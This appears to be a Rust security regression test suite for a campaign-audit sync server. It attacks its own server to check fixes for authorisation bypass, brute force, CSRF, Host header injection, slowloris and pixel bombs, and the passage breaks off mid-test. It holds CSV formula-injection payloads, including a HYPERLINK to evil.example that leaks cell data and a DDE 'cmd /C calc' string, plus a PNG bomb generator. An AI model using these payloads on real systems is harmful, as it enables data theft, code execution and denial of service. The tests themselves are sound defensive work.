//! The security suite: the server played as an attacker would, over
//! loopback, on both store backends (this module is part of the `api`
//! suite). Each test names the hole it closes (issue #13) and failed on the
//! code before its fix.

use super::*;

/// One change of `entity` `id` by `device`, stamped by `clock`.
fn change(
    clock: &mut qadam_core::HlcClock,
    device: &str,
    entity: EntityKind,
    id: Uuid,
    field: &str,
    value: Value,
) -> Change {
    Change {
        op_id: Uuid::now_v7(),
        entity,
        entity_id: id,
        field: field.into(),
        value,
        hlc: clock.tick(qadam_core::hlc::now_ms()),
        device_id: device.into(),
        seen_cursor: 0,
    }
}

/// The records of one campaign: the campaign, an object, its audit, a door
/// element of the audit and a photo of the object. Returns the changes and
/// (object, audit, element, photo).
fn campaign_records(campaign: Uuid, name: &str) -> (Vec<Change>, [Uuid; 4]) {
    let mut clock = qadam_core::HlcClock::default();
    let (object, audit, element, photo) = (Uuid::now_v7(), Uuid::now_v7(), Uuid::now_v7(), Uuid::now_v7());
    let mut c = |entity, id, field: &str, value| change(&mut clock, "admin", entity, id, field, value);
    let changes = vec![
        c(EntityKind::Campaign, campaign, "name", json!(name)),
        c(EntityKind::Object, object, "campaign_id", json!(campaign)),
        c(EntityKind::Object, object, "name", json!(format!("{name}: объект"))),
        c(EntityKind::Audit, audit, "campaign_id", json!(campaign)),
        c(EntityKind::Audit, audit, "object_id", json!(object)),
        c(EntityKind::Audit, audit, "status", json!("draft")),
        c(EntityKind::Element, element, "object_id", json!(object)),
        c(EntityKind::Element, element, "audit_id", json!(audit)),
        c(EntityKind::Element, element, "kind", json!("door")),
        c(EntityKind::Element, element, "measurements.clear_width_mm", json!(900)),
        c(EntityKind::Photo, photo, "object_id", json!(object)),
        c(EntityKind::Photo, photo, "sha256", json!("ab".repeat(32))),
    ];
    (changes, [object, audit, element, photo])
}

/// Makes an existing account a member of one more campaign.
fn add_member(s: &Server, campaign: Uuid, login: &str, role: &str) {
    use qadam_sync_server::store::accounts::{self, MemberRole};
    std::thread::scope(|t| {
        t.spawn(|| {
            qadam_sync_server::store::accounts(&*s.state.store, |db| {
                accounts::set_member(db, campaign, login, MemberRole::parse(role).unwrap())
            })
            .unwrap()
        })
        .join()
        .unwrap()
    })
}

/// The whole state the server holds, as an administrator pulls it.
async fn everything(s: &Server) -> Vec<qadam_core::change::ServerChange> {
    s.pull(0, 5000).await.changes
}

/// #13.2: a device of campaign A pushed `object.campaign_id := A` for an
/// object of campaign B and got 200 (only the new campaign was checked). A
/// change is now authorised against the campaign its record is in and the
/// one it would move to; moving is for coordinators of both.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_cannot_move_another_campaigns_records_into_its_own() {
    let s = Server::start().await;
    let (a, b) = (Uuid::now_v7(), Uuid::now_v7());
    let (batch_a, [object_a, audit_a, element_a, _]) = campaign_records(a, "A");
    let (batch_b, [object_b, audit_b, element_b, photo_b]) = campaign_records(b, "B");
    assert_eq!(s.push(&batch_a).await.0, 200);
    assert_eq!(s.push(&batch_b).await.0, 200);
    add_account(&s, "attacker", "auditor", Some((a, "auditor")));
    add_account(&s, "coord", "coordinator", Some((a, "coordinator")));
    add_member(&s, b, "coord", "coordinator");
    let (_, attacker) = s.enroll("attacker").await;
    let before = everything(&s).await;
    let mut clock = qadam_core::HlcClock::default();
    let body = |changes: Vec<Change>| serde_json::to_vec(&PushRequest { device_id: "x".into(), changes }).unwrap();
    let moves = [
        (EntityKind::Object, object_b, "campaign_id", json!(a)),
        (EntityKind::Audit, audit_b, "campaign_id", json!(a)),
        (EntityKind::Element, element_b, "object_id", json!(object_a)),
        (EntityKind::Photo, photo_b, "object_id", json!(object_a)),
        // References across campaigns, without moving the record itself.
        (EntityKind::Audit, audit_a, "object_id", json!(object_b)),
        // A ramp "serving" another campaign's entrance (issue 14).
        (EntityKind::Element, element_a, "serves", json!(element_b)),
    ];
    for (entity, id, field, value) in moves {
        let c = change(&mut clock, "attacker-phone", entity, id, field, value.clone());
        let (st, v) = s.call("POST", "/api/v1/sync/push", Some(&attacker), Some(body(vec![c]))).await;
        assert_eq!(st, 403, "{} {field} := {value}: {v}", entity.as_str());
        assert_eq!(v["error"]["code"], "forbidden", "{v}");
        assert!(v["error"]["field"].as_str().unwrap().starts_with("changes[0]"), "{v}");
    }
    // A move together with an edit in one batch: refused whole.
    let c1 = change(&mut clock, "attacker-phone", EntityKind::Object, object_b, "campaign_id", json!(a));
    let c2 = change(&mut clock, "attacker-phone", EntityKind::Object, object_b, "name", json!("stolen"));
    let (st, v) = s.call("POST", "/api/v1/sync/push", Some(&attacker), Some(body(vec![c1, c2]))).await;
    assert_eq!(st, 403, "{v}");
    assert_eq!(everything(&s).await, before, "refused pushes change nothing");
    let (_, pulled) = s.call("GET", "/api/v1/sync/pull", Some(&attacker), None).await;
    assert!(
        pulled["changes"].as_array().unwrap().iter().all(|c| c["change"]["entity_id"] != json!(object_b)),
        "the attacker reads nothing of B"
    );
    // A coordinator of both campaigns may move an object (through the API
    // with her session-less token: a device of hers).
    let (_, coord) = s.enroll("coord").await;
    let mv = change(&mut clock, "coord-phone", EntityKind::Object, object_b, "campaign_id", json!(a));
    let (st, v) = s.call("POST", "/api/v1/sync/push", Some(&coord), Some(body(vec![mv]))).await;
    assert_eq!(st, 200, "a coordinator of both moves it: {v}");
}

/// #13.3: a write stamped minutes ahead with counter 999999 made the
/// server's next stamp carry a 7-digit counter, which sorts before it as
/// text: the coordinator's review silently lost, later calls answered 500
/// and pull served a stamp the server itself refused. Now the counter
/// carries into the wall clock.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_review_after_a_stamp_at_the_largest_counter_still_wins() {
    let s = Server::start().await;
    let campaign = Uuid::now_v7();
    let (batch, [object, audit, _, _]) = campaign_records(campaign, "HLC");
    assert_eq!(s.push(&batch).await.0, 200);
    let ahead = Hlc::new(qadam_core::hlc::now_ms() + 4 * 60_000, qadam_core::hlc::MAX_COUNTER);
    let mut submit = change(
        &mut qadam_core::HlcClock::default(),
        "fast-phone",
        EntityKind::Audit,
        audit,
        "status",
        json!("submitted"),
    );
    submit.hlc = ahead;
    let mut rename = submit.clone();
    (rename.op_id, rename.entity, rename.entity_id, rename.field, rename.value) =
        (Uuid::now_v7(), EntityKind::Object, object, "name".into(), json!("ahead"));
    let (st, v) = s.push(&[submit, rename]).await;
    assert_eq!(st, 200, "{v}");
    for (action, status) in [("start_review", "in_review"), ("approve", "approved")] {
        let (st, v) = s
            .call(
                "POST",
                &format!("/api/v1/audits/{audit}/review"),
                Some(TOKEN),
                Some(serde_json::to_vec(&json!({"action": action})).unwrap()),
            )
            .await;
        assert_eq!(st, 200, "{action}: {v}");
        let detail: Value = s.get_json(&format!("/api/v1/objects/{object}")).await;
        assert_eq!(detail["audits"][0]["status"], status, "the coordinator's {action} wins: {detail}");
    }
    // Everything pull serves is a stamp the server accepts again.
    let all = everything(&s).await;
    for c in &all {
        let text = c.change.hlc.to_string();
        assert_eq!(text.len(), 22, "{text}");
    }
    let again: Vec<Change> = all.iter().map(|c| c.change.clone()).collect();
    let (st, v) = s.push(&again).await;
    assert_eq!(st, 200, "the server takes back what it served: {v}");
}

/// Text of a GET as the operator, with its status.
async fn get_text(s: &Server, path: &str) -> (u16, String) {
    let r = s.http.get(s.url(path)).bearer_auth(TOKEN).send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

/// #13.7 and #13.12 (OSM): cells starting with `=`, `+`, `-`, `@`, a tab or
/// a carriage return reached Excel verbatim; a control character in a name
/// made the OSM XML export unreadable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_neutralise_formulas_and_control_characters_and_keep_numbers() {
    let s = Server::start().await;
    let campaign = Uuid::now_v7();
    let (mut batch, [object, _, element, _]) = campaign_records(campaign, "CSV");
    let mut clock = qadam_core::HlcClock::resume(batch.iter().map(|c| c.hlc).max().unwrap());
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\u{1}\u{b}";
    batch.extend([
        change(&mut clock, "admin", EntityKind::Object, object, "name", json!(name)),
        change(&mut clock, "admin", EntityKind::Object, object, "address", json!("+1+cmd|' /C calc'!A0")),
        change(
            &mut clock,
            "admin",
            EntityKind::Object,
            object,
            "location",
            json!({"lat_deg": -33.9, "lon_deg": -70.6}),
        ),
        change(&mut clock, "admin", EntityKind::Element, element, "note", json!("@SUM(1+1)*cmd|' /C calc'!A0")),
    ]);
    assert_eq!(s.push(&batch).await.0, 200);
    let q = format!("?campaign={campaign}&drafts=true");
    let (st, objects) = get_text(&s, &format!("/api/v1/exports/objects.csv{q}")).await;
    assert_eq!(st, 200);
    let mut rows = csv::Reader::from_reader(objects.trim_start_matches('\u{feff}').as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    let cell = |name: &str| row[0][headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("name"), format!("'{name}"));
    assert_eq!(cell("address"), "'+1+cmd|' /C calc'!A0");
    assert_eq!(cell("lat_deg").parse::<f64>().unwrap(), -33.9, "a negative number stays a number");
    assert_eq!(cell("lon_deg"), "-70.600000");
    let (_, elements) = get_text(&s, &format!("/api/v1/exports/elements.csv{q}")).await;
    let mut rows = csv::Reader::from_reader(elements.trim_start_matches('\u{feff}').as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    let cell = |name: &str| row[0][headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("note"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("object_name"), format!("'{name}"));
    assert_eq!(cell("value"), "900");
    let (st, osm) = get_text(&s, &format!("/api/v1/exports/objects.osm{q}")).await;
    assert_eq!(st, 200);
    let doc = roxmltree::Document::parse(&osm).unwrap_or_else(|e| panic!("the OSM file parses: {e}\n{osm}"));
    let tag = doc.descendants().find(|n| n.attribute("k") == Some("name")).expect("a name tag");
    assert_eq!(tag.attribute("v"), Some(name.replace(['\u{1}', '\u{b}'], "\u{fffd}").as_str()));
}

/// Signs in with a login and password from the test's address; the status
/// and the `Retry-After` header, if any.
async fn sign_in(s: &Server, login: &str, password: &str) -> (u16, Option<String>) {
    let r = s.http.post(s.url("/api/v1/session")).json(&json!({"login": login, "password": password}));
    let r = r.send().await.unwrap();
    let retry = r.headers().get("retry-after").map(|v| v.to_str().unwrap().to_string());
    (r.status().as_u16(), retry)
}

/// #13.5: 50 wrong passwords, then the right one, signed in; 200 guesses
/// at enrollment codes ran in 0.7 s. Now attempts are counted per login
/// and per address, answered 429 with Retry-After past the limit (the right
/// password too), and an administrator lifts a login's lockout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_passwords_and_enrollment_codes_is_throttled_and_an_admin_lifts_a_lockout() {
    use qadam_sync_server::service::throttle::{ADDRESS_BURST, ENROLL_BURST, LOGIN_BURST};
    let s = Server::start().await;
    add_account(&s, "victim", "coordinator", None);
    let mut statuses = vec![];
    for i in 0..LOGIN_BURST + 3 {
        statuses.push(sign_in(&s, "victim", &format!("guess {i}")).await);
    }
    let wrong: Vec<u16> = statuses.iter().map(|(st, _)| *st).collect();
    let mut want = vec![401; LOGIN_BURST as usize];
    want.extend([429; 3]);
    assert_eq!(wrong, want, "{statuses:?}");
    let retry: u64 = statuses.last().unwrap().1.as_deref().expect("Retry-After").parse().unwrap();
    assert!(retry >= 1, "{retry}");
    assert_eq!(sign_in(&s, "victim", "correct horse battery").await.0, 429, "the right password is locked out too");
    // Only an administrator lifts it.
    add_account(&s, "other-coord", "coordinator", None);
    let (_, cookie) = {
        let r = s
            .http
            .post(s.url("/api/v1/session"))
            .json(&json!({"login": "other-coord", "password": "correct horse battery"}));
        let r = r.send().await.unwrap();
        (r.status(), r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string())
    };
    let r = s.http.post(s.url("/api/v1/users/victim/unlock")).header("cookie", cookie).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 403);
    let (st, v) = s.call("POST", "/api/v1/users/nobody/unlock", Some(TOKEN), None).await;
    assert_eq!(st, 404, "{v}");
    let (st, _) = s.call("POST", "/api/v1/users/victim/unlock", Some(TOKEN), None).await;
    assert_eq!(st, 204);
    assert_eq!(sign_in(&s, "victim", "correct horse battery").await.0, 200, "lifted");
    // One address trying many logins is stopped too.
    let mut last = 0;
    for i in 0..ADDRESS_BURST + 2 {
        last = sign_in(&s, &format!("login-{i}"), "x").await.0;
    }
    assert_eq!(last, 429, "per address");
    // Enrollment codes.
    let mut answers = vec![];
    for i in 0..ENROLL_BURST + 5 {
        let body = serde_json::to_vec(&json!({"code": format!("AAAA-BBBB-{i:02}"), "device_name": "x"})).unwrap();
        answers.push(s.call("POST", "/api/v1/devices/enroll", None, Some(body)).await);
    }
    let codes: Vec<u16> = answers.iter().map(|(st, _)| *st).collect();
    let mut want = vec![401; ENROLL_BURST as usize];
    want.extend([429; 5]);
    assert_eq!(codes, want);
    assert_eq!(answers.last().unwrap().1["error"]["code"], "too_many_requests");
}

/// A PNG header claiming `w`×`h` pixels with a token IDAT: what an attacker
/// sends to make the server allocate for pixels that are not there.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend((data.len() as u32).to_be_bytes());
        out.extend(kind);
        out.extend(data);
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend(crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = vec![];
    ihdr.extend(w.to_be_bytes());
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut z, &vec![0u8; 1 << 20]).unwrap();
    chunk(&mut out, b"IDAT", &z.finish().unwrap());
    chunk(&mut out, b"IEND", &[]);
    out
}

async fn put_photo(s: &Server, bytes: &[u8], content_type: Option<&str>) -> (u16, Value) {
    let sha = qadam_core::photo::sha256_hex(bytes);
    let mut r = s.http.put(s.url(&format!("/api/v1/photos/{sha}"))).bearer_auth(TOKEN).body(bytes.to_vec());
    if let Some(t) = content_type {
        r = r.header("content-type", t);
    }
    let r = r.send().await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

/// #13.6 and #13.10 (uploads): a 12000×12000 PNG of a few hundred KB was
/// accepted (one thumbnail: 30 s, 810 MiB); an image that does not decode,
/// or is not of the type it was sent as, was kept.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_refused_past_the_pixel_limit_and_unless_they_are_clean_images_of_their_type() {
    let s = Server::start().await;
    let before = s.counts();
    let bomb = png_claiming(12_000, 12_000);
    assert!(bomb.len() < 2_000_000);
    let (st, v) = put_photo(&s, &bomb, None).await;
    assert_eq!((st, v["error"]["code"].as_str()), (413, Some("photo_too_many_pixels")), "{v}");
    // A JPEG whose header is fine and whose pixels are garbage.
    let good = demo::jpeg_with_exif(320, 240, 1, None, "2025:06:01 10:00:00");
    let mut broken = good[..good.len() / 3].to_vec();
    broken.extend(std::iter::repeat_n(0xAB, 4_000));
    let (st, v) = put_photo(&s, &broken, None).await;
    assert_eq!((st, v["error"]["code"].as_str()), (422, Some("image_undecodable")), "{v}");
    // Sent as a PNG, but a JPEG.
    let (st, v) = put_photo(&s, &good, Some("image/png")).await;
    assert_eq!((st, v["error"]["code"].as_str()), (415, Some("photo_wrong_type")), "{v}");
    assert_eq!(s.counts(), before, "nothing refused is kept");
    let (st, _) = put_photo(&s, &good, Some("image/jpeg")).await;
    assert_eq!(st, 201);
    // Served so that a browser never reads it as anything else.
    let sha = qadam_core::photo::sha256_hex(&good);
    let r = s.http.get(s.url(&format!("/api/v1/photos/{sha}"))).bearer_auth(TOKEN).send().await.unwrap();
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(r.headers()["content-type"], "image/jpeg");
    assert_eq!(r.headers()["content-disposition"], format!("inline; filename=\"{sha}.jpg\"").as_str());
}

/// #13.8: a coordinator of A made an enrollment code for an auditor who is
/// also in B, and the device then read B. A device a coordinator enrolls
/// reaches only the campaigns that coordinator coordinates.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_a_coordinator_enrolls_reaches_only_that_coordinators_campaigns() {
    let s = Server::start().await;
    let (a, b) = (Uuid::now_v7(), Uuid::now_v7());
    let (batch_a, _) = campaign_records(a, "A");
    let (batch_b, [object_b, ..]) = campaign_records(b, "B");
    assert_eq!(s.push(&batch_a).await.0, 200);
    assert_eq!(s.push(&batch_b).await.0, 200);
    add_account(&s, "coord-a", "coordinator", Some((a, "coordinator")));
    add_account(&s, "both", "auditor", Some((a, "auditor")));
    add_member(&s, b, "both", "auditor");
    let r =
        s.http.post(s.url("/api/v1/session")).json(&json!({"login": "coord-a", "password": "correct horse battery"}));
    let r = r.send().await.unwrap();
    let cookie = r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();
    let r = s.http.post(s.url("/api/v1/enrollments")).header("cookie", cookie).json(&json!({"login": "both"}));
    let e: Value = r.send().await.unwrap().json().await.unwrap();
    let body = serde_json::to_vec(&json!({"code": e["code"], "device_name": "phone"})).unwrap();
    let (st, d) = s.call("POST", "/api/v1/devices/enroll", None, Some(body)).await;
    assert_eq!(st, 200, "{d}");
    let token = d["token"].as_str().unwrap();
    let (_, page) = s.call("GET", "/api/v1/sync/pull", Some(token), None).await;
    let ids: std::collections::BTreeSet<String> = page["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["change"]["entity_id"].as_str().unwrap().to_string())
        .collect();
    let want: std::collections::BTreeSet<String> = batch_a.iter().map(|c| c.entity_id.to_string()).collect();
    assert_eq!(ids, want, "exactly campaign A");
    let (_, me) = s.call("GET", "/api/v1/me", Some(token), None).await;
    assert_eq!(me["campaigns"].as_array().unwrap().len(), 1, "{me}");
    let mut clock = qadam_core::HlcClock::default();
    let c = change(&mut clock, "phone", EntityKind::Object, object_b, "name", json!("x"));
    let body = serde_json::to_vec(&PushRequest { device_id: "phone".into(), changes: vec![c] }).unwrap();
    let (st, _) = s.call("POST", "/api/v1/sync/push", Some(token), Some(body)).await;
    assert_eq!(st, 403, "nor writes B");
    // An administrator's code reaches all of the user's campaigns.
    let (_, all) = s.enroll("both").await;
    let (_, me) = s.call("GET", "/api/v1/me", Some(&all), None).await;
    assert_eq!(me["campaigns"].as_array().unwrap().len(), 2, "{me}");
}

/// #13.12 and #13.10: the smaller holes. An op id reused with other content
/// was answered as a duplicate; the token sign-in's cookie was a fixed
/// value that outlived sign-out; a cross-origin `text/plain` POST was
/// taken; the enrollment link copied the `Host` header; `pull?since=`
/// near i64::MAX answered 500; unknown API paths answered the dashboard's
/// page with 200; answers carried no security headers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_smaller_holes_are_closed() {
    let s = Server::start().await;
    let campaign = Uuid::now_v7();
    let (batch, _) = campaign_records(campaign, "Small");
    assert_eq!(s.push(&batch).await.0, 200);
    let before = everything(&s).await;
    // Same op id, other content: 409, nothing changes; the same again is a duplicate.
    let mut forged = batch[2].clone();
    forged.value = json!("forged");
    let (st, v) = s.push(&[batch[0].clone(), forged]).await;
    assert_eq!(
        (st, v["error"]["code"].as_str(), v["error"]["field"].as_str()),
        (409, Some("op_id_reused"), Some("changes[1].op_id")),
        "{v}"
    );
    let (st, v) = s.push(&batch).await;
    assert_eq!((st, v["duplicates"].as_u64()), (200, Some(batch.len() as u64)), "{v}");
    assert_eq!(everything(&s).await, before);

    // Sessions from the API token: random, and ended by signing out.
    let token_session = || async {
        let r = s.http.post(s.url("/api/v1/session")).json(&json!({"token": TOKEN})).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 200);
        r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string()
    };
    let (one, two) = (token_session().await, token_session().await);
    assert_ne!(one, two, "each sign-in is a new random session");
    let server = &s;
    let me = |cookie: String| async move {
        server.http.get(server.url("/api/v1/me")).header("cookie", cookie).send().await.unwrap().status().as_u16()
    };
    assert_eq!(me(one.clone()).await, 200);
    let r = s.http.delete(s.url("/api/v1/session")).header("cookie", one.clone()).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 204);
    assert_eq!(me(one).await, 401, "signed out");
    assert_eq!(me(two.clone()).await, 200, "the other session goes on");

    // A page elsewhere may not post to the API with the coordinator's cookie.
    let r = s
        .http
        .post(s.url("/api/v1/session"))
        .header("origin", "http://evil.example")
        .header("content-type", "text/plain")
        .body(format!("{{\"token\":\"{TOKEN}\"}}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 403);
    let r = s
        .http
        .post(s.url("/api/v1/enrollments"))
        .header("origin", "http://evil.example")
        .header("cookie", two.clone())
        .header("content-type", "text/plain")
        .body(r#"{"login":"admin"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 403);
    // Its own pages may (the browser names the server it addressed).
    let own = s.base.clone();
    let r = s
        .http
        .post(s.url("/api/v1/session"))
        .header("origin", own)
        .json(&json!({"token": TOKEN}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);

    // The enrollment link names the configured server, not the Host asked.
    add_account(&s, "newbie", "auditor", Some((campaign, "auditor")));
    let r = s
        .http
        .post(s.url("/api/v1/enrollments"))
        .bearer_auth(TOKEN)
        .header("host", "evil.example")
        .json(&json!({"login": "newbie"}));
    let e: Value = r.send().await.unwrap().json().await.unwrap();
    let link = e["link"].as_str().unwrap();
    assert!(!link.contains("evil"), "{link}");

    // A cursor at the end of i64.
    let (st, v) = s.call("GET", &format!("/api/v1/sync/pull?since={}", i64::MAX), Some(TOKEN), None).await;
    assert_eq!((st, v["changes"].as_array().map(Vec::len)), (200, Some(0)), "{v}");
    let (st, v) = s.call("GET", &format!("/api/v1/sync/pull?since={}", i64::MAX - 1), Some(TOKEN), None).await;
    assert_eq!(st, 200, "{v}");

    // Unknown API paths: a JSON 404.
    for path in ["/api/v1/nope", "/api/v1/objects/x/y/z", "/api/v2/sync/pull"] {
        let (st, v) = s.call("GET", path, Some(TOKEN), None).await;
        assert_eq!((st, v["error"]["code"].as_str()), (404, Some("not_found")), "{path}: {v}");
    }

    // Security headers on every answer.
    for path in ["/healthz", "/api/v1/openapi.json", "/api/v1/nope", "/"] {
        let r = s.http.get(s.url(path)).send().await.unwrap();
        let h = r.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "no-referrer", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        let csp = h["content-security-policy"].to_str().unwrap();
        for part in ["script-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'"] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
        assert!(
            !csp.contains("unsafe-eval")
                && !csp.split(';').any(|d| d.contains("script-src") && d.contains("unsafe-inline"))
        );
    }
}

/// #13.9: slow-header, slow-body and idle connections stayed open forever
/// (1,500 of 1,500). Now the head, each body chunk and idleness have
/// timeouts, and past the connection cap a new connection is answered 503
/// and closed. (A server of its own, with short limits.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_and_idle_connections_are_closed_and_connections_are_capped() {
    use std::time::{Duration, Instant};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let s = Server::start().await;
    let limits = qadam_sync_server::listen::Limits {
        max_connections: 6,
        header_timeout: Duration::from_millis(800),
        body_timeout: Duration::from_millis(800),
        request_timeout: Duration::from_secs(5),
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = qadam_sync_server::router(s.state.clone());
    tokio::spawn(qadam_sync_server::listen::serve(listener, app, limits, std::future::pending()));
    /// Reads until the server closes the connection (or 5 s pass): what it sent.
    async fn until_closed(c: &mut tokio::net::TcpStream, what: &str) -> (String, Duration) {
        let start = Instant::now();
        let mut out = vec![];
        let mut buf = [0u8; 4096];
        loop {
            match tokio::time::timeout(Duration::from_secs(5), c.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(n)) => out.extend(&buf[..n]),
                Err(_) => panic!("{what}: still open after 5 s: {}", String::from_utf8_lossy(&out)),
            }
        }
        (String::from_utf8_lossy(&out).into_owned(), start.elapsed())
    }
    // Idle: connects and says nothing.
    let mut idle = tokio::net::TcpStream::connect(addr).await.unwrap();
    // Slow header: half a request line.
    let mut slow_head = tokio::net::TcpStream::connect(addr).await.unwrap();
    slow_head.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await.unwrap();
    // Slow body: the head of a push, 10 bytes of 100, then nothing.
    let mut slow_body = tokio::net::TcpStream::connect(addr).await.unwrap();
    let head = format!(
        "POST /api/v1/sync/push HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{\"device_i"
    );
    slow_body.write_all(head.as_bytes()).await.unwrap();
    // Idle after a request on a kept-alive connection.
    let mut kept = tokio::net::TcpStream::connect(addr).await.unwrap();
    kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
    let (said, _) = until_closed(&mut idle, "idle").await;
    assert_eq!(said, "", "an idle connection is closed without a word");
    let (said, _) = until_closed(&mut slow_head, "slow_head").await;
    assert!(said.is_empty() || said.starts_with("HTTP/1.1 408"), "{said}");
    let (said, _) = until_closed(&mut slow_body, "slow_body").await;
    assert!(said.starts_with("HTTP/1.1 408") || said.starts_with("HTTP/1.1 400"), "a stalled body ends: {said}");
    let (said, _) = until_closed(&mut kept, "kept").await;
    assert!(said.starts_with("HTTP/1.1 200"), "{said}");
    // The cap: six idle connections fill it, the seventh is told so. On a
    // loaded machine a held connection may reach its 800 ms idle timeout
    // before the seventh is accepted (freeing its slot), so the round is
    // tried again, at most three times; without a cap every round fails.
    let mut refused = Vec::new();
    for _ in 0..3 {
        let mut held = vec![];
        for _ in 0..limits.max_connections {
            held.push(tokio::net::TcpStream::connect(addr).await.unwrap());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        let mut extra = tokio::net::TcpStream::connect(addr).await.unwrap();
        let (said, _) = until_closed(&mut extra, "extra").await;
        // Once they time out, the server takes connections again.
        for mut c in held {
            until_closed(&mut c, "held").await;
        }
        refused.push(said.clone());
        if said.starts_with("HTTP/1.1 503") {
            break;
        }
    }
    let said = refused.last().unwrap();
    assert!(said.starts_with("HTTP/1.1 503") && said.contains("\"busy\""), "{refused:?}");
    let r = reqwest::get(format!("http://{addr}/healthz")).await.unwrap();
    assert_eq!(r.status().as_u16(), 200);
}

/// Resident memory of a process, in MiB.
fn rss_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap();
    kb / 1024
}

/// #13.4: password checks ran inside the writer's transaction: 16 wrong
/// sign-ins a second pushed a device's median push from 4 ms to 915 ms, and
/// a 32-way flood grew the server from 40 MiB to 3.1 GiB. The real binary
/// is flooded for three seconds while a device pushes: every push is
/// answered, promptly, and the server's memory stays bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sign_in_flood_neither_stalls_pushes_nor_grows_the_server() {
    use std::time::{Duration, Instant};
    if std::env::var("QADAM_TEST_POSTGRES").is_ok() {
        return; // The binary runs on SQLite; this is not about the store.
    }
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_qadam-server"))
        .args(["serve", "--demo", "--listen", &format!("127.0.0.1:{port}"), "--token", TOKEN])
        .arg("--db")
        .arg(dir.path().join("server.db"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let http = reqwest::Client::new();
    let started = Instant::now();
    while http.get(format!("{base}/healthz")).send().await.is_err() {
        assert!(started.elapsed() < Duration::from_secs(60), "the server starts");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let before = rss_mib(child.id());
    let stop = Instant::now() + Duration::from_secs(3);
    let flood: Vec<_> = (0..32)
        .map(|i| {
            let (http, base) = (http.clone(), base.clone());
            tokio::spawn(async move {
                let mut n = 0;
                while Instant::now() < stop {
                    let login = ["admin", "coordinator", "auditor"][i % 3];
                    let body = json!({"login": login, "password": format!("wrong {i} {n}")});
                    let _ = http.post(format!("{base}/api/v1/session")).json(&body).send().await;
                    n += 1;
                }
                n
            })
        })
        .collect();
    let mut clock = qadam_core::HlcClock::default();
    let campaign = Uuid::now_v7();
    let mut latencies = vec![];
    while Instant::now() < stop {
        let c =
            change(&mut clock, "phone", EntityKind::Campaign, campaign, "name", json!(format!("n{}", latencies.len())));
        let body = serde_json::to_vec(&PushRequest { device_id: "phone".into(), changes: vec![c] }).unwrap();
        let t = Instant::now();
        let r = http
            .post(format!("{base}/api/v1/sync/push"))
            .bearer_auth(TOKEN)
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 200);
        latencies.push(t.elapsed());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
